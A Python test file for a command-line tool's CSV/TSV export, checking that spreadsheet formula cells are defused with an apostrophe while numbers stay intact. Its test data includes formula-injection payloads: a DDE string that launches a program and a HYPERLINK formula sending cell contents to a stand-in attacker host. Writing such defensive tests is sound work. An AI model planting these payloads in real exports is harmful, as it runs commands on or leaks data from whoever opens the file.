"""A05: a cell that a spreadsheet would run as a formula is defused."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from cli.support import Rows
from hypothesis import given
from hypothesis import strategies as st

from agentnn.cli.app import run_command
from agentnn.cli.text import spreadsheet_safe

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Ask = Callable[..., list[list[str]]]

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "+",
    "=",
]
TRIGGERS = "=+-@\t\r\n＝＋－＠"
ONE = "1" * 32


@pytest.fixture
def ask(database: Path, capsys: pytest.CaptureFixture[str]) -> Ask:
    """Runs a command on the store; the cells that it wrote, as a spreadsheet reads them."""

    def run(*arguments: str, form: str = "csv") -> list[list[str]]:
        assert run_command(["--tracking-uri", f"sqlite:///{database}", *arguments, "-o", form]) == 0
        text = capsys.readouterr().out
        if form == "tsv":
            return [line.split("\t") for line in text.rstrip("\n").split("\n")]
        return list(csv.reader(io.StringIO(text, newline="")))

    return run


def _attacked(path: Path, text: str) -> None:
    with Rows(path) as rows:
        rows.experiment(1, text, artifact_location=text)
        rows.run(ONE, text, experiment_id=1, user_id=text, metrics={text: 1.0, "m": -1.5},
                 params={text: text, "p": text}, tags={text: text, "t": text})  # fmt: skip
        rows.run("2" * 32, text, experiment_id=1, params={"p": "other"}, metrics={"m": -2.5})
        rows.model(text, description=text)
        rows.version(text, 1, ONE, alias=text, current_stage=text, source=text, user_id=text)


def _is_a_formula(cell: str) -> bool:
    if cell[:1] not in TRIGGERS or not cell:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


COMMANDS = [
    ("experiment", "list"),
    ("run", "list", "-e", "1"),
    ("run", "list", "--columns", "name,user,params.p,tags.t,params,tags"),
    ("run", "best", "-m", "m"),
    ("run", "compare", ONE, "2" * 32, "--all"),
    ("model", "list", "--metrics"),
]


@pytest.mark.parametrize("form", ["csv", "tsv"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str, command: tuple[str, ...], form: str, database: Path, ask: Ask):
    _attacked(database, text)
    cells = [cell for row in ask(*command, form=form) for cell in row]
    assert cells
    assert [cell for cell in cells if _is_a_formula(cell)] == []


def test_a_formula_is_defused_by_one_apostrophe_and_can_be_left_alone(database: Path, ask: Ask):
    _attacked(database, "=1+1")
    assert ask("run", "list", "-e", "1", "--columns", "name,params.p")[1] == ["'=1+1", "'=1+1"]
    assert ask("run", "list", "-e", "1", "--columns", "name,params.p", "--keep-formulas")[1] == ["=1+1", "=1+1"]


@pytest.mark.parametrize("number", ["-1", "+1.5", "-1e-05", "-.5", "1e300"])
def test_a_number_stays_a_number(number: str, database: Path, ask: Ask):
    with Rows(database) as rows:
        rows.run(ONE, "a run", params={"p": number}, metrics={"m": float(number)})
    assert ask("run", "list", "--columns", "params.p,metrics.m")[1] == [number, repr(float(number))]


@given(st.text())
def test_a_defused_text_is_the_text_with_at_most_an_apostrophe_before_it(text: str):
    assert spreadsheet_safe(text) in (text, f"'{text}")


@given(st.sampled_from("=+-@"), st.text())
def test_a_text_that_begins_like_a_formula_is_defused_unless_it_is_a_number(begin: str, rest: str):
    assert not _is_a_formula(spreadsheet_safe(begin + rest)) or "_" in rest
